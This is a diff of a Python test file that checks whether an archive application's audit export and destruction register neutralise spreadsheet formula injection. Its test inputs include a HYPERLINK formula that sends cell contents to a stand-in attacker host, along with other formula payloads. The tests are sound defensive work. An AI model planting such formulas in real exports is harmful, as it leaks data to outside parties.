@@ -10,11 +10,16 @@ from datetime import date, datetime, timedelta
 
 import pytest
 
-from archive.db.session import make_engine, make_sessionmaker
-from archive.services.accounts import add_user
 from archive.services.spreadsheet import FORMULA_STARTS, safe_cell
 from tests import documents
-from tests.factories import PASSWORD, create_customer, create_dossier, login, upload, wait_for_job
+from tests.factories import (
+    add_account,
+    create_customer,
+    create_dossier,
+    login,
+    upload,
+    wait_for_job,
+)
 
 ACCOUNT = "3300012345"
 FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A9)",
@@ -64,11 +69,7 @@ def test_the_audit_export_neutralises_formulas(client) -> None:
 
 
 def test_the_destruction_register_neutralises_formulas(client, settings) -> None:
-    engine = make_engine(settings.database_url)
-    with make_sessionmaker(engine).begin() as session:
-        add_user(session, username="archivist_xh", password=PASSWORD, role="archivist",
-                 unit_code="xh", clearance="受限")
-    engine.dispose()
+    add_account(settings, "archivist_xh", role="archivist", unit="xh", clearance="受限")
     record = _filed(client, name=FORMULAS[0], title=FORMULAS[3])["record_id"]
     clock = client.app.state.clock
     clock.advance(datetime.combine(date(2046, 1, 2), datetime.min.time(), clock.now().tzinfo)
